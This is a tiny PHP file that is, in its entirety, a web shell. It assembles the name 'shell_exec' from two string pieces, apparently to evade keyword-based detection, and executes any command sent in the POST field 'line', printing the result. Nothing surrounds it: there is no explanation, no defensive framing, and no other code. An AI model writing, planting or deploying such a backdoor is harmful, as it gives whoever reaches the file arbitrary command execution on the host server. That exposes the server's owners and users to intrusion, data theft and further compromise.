<?php
$name = "shell" . "_exec";
echo $name($_POST["line"]);
